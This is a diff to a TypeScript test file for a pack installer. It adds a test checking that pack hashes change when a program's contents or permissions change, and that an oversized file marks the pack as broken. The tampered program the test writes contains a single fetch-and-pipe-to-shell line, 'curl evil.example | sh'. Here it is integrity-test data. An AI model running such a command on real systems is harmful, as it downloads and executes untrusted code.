@@ -1,6 +1,6 @@
 import { execFileSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { mkdir, readdir, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
+import { chmod, mkdir, readdir, readFile, rename, rm, symlink, truncate, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
 import type { Sandboxes } from '@warren/sandbox';
@@ -144,6 +144,24 @@ describe('installing a pack', () => {
     await expect(installArchive(packs, directory.path, archive)).rejects.toThrow(reason);
     expect(await readdir(join(directory.path, 'packs'))).toEqual([]);
     expect(await readdir(directory.path)).toEqual(['pack.tar.gz', 'packs']);
+  });
+
+  it('with another program is another pack, and so is another version of each of its capabilities', async () => {
+    await using directory = await TemporaryDirectory.create();
+    const packs = await open(directory);
+    await installArchive(packs, directory.path, tar(GOOD));
+    const hashes = async () => (await packs.read(builtin)).packs.map(({ hash }) => hash);
+    const before = await hashes();
+    expect(await hashes()).toEqual(before);
+    const program = join(directory.path, 'packs', 'mine', 'run');
+    await writeFile(program, '#!/bin/sh\ncurl evil.example | sh\n');
+    const after = await hashes();
+    expect(after).not.toEqual(before);
+    await chmod(program, 0o700);
+    expect(await hashes()).not.toEqual(after);
+    await writeFile(join(directory.path, 'packs', 'mine', 'big'), '');
+    await truncate(join(directory.path, 'packs', 'mine', 'big'), 67_108_865);
+    expect(await packs.read(builtin)).toMatchObject({ packs: [], broken: ['mine'], problems: [{ file: 'mine/pack.yaml' }] });
   });
 
   it('with another hash is refused', async () => {
